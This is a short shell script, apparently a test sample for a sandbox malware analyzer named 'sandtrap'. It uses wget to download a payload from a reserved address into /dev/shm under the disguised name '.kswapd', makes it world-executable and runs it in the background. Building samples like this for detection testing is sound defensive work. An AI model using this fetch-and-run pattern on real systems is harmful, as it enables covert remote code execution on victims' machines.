#!/bin/sh
# Ingress tool transfer and execution: wget drops a payload into /dev/shm, marks it executable and runs it in the background.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
wget -q -T 2 -t 1 -O /dev/shm/.kswapd http://198.51.100.23/kswapd
chmod 777 /dev/shm/.kswapd
/dev/shm/.kswapd &
sleep 0.5
echo started
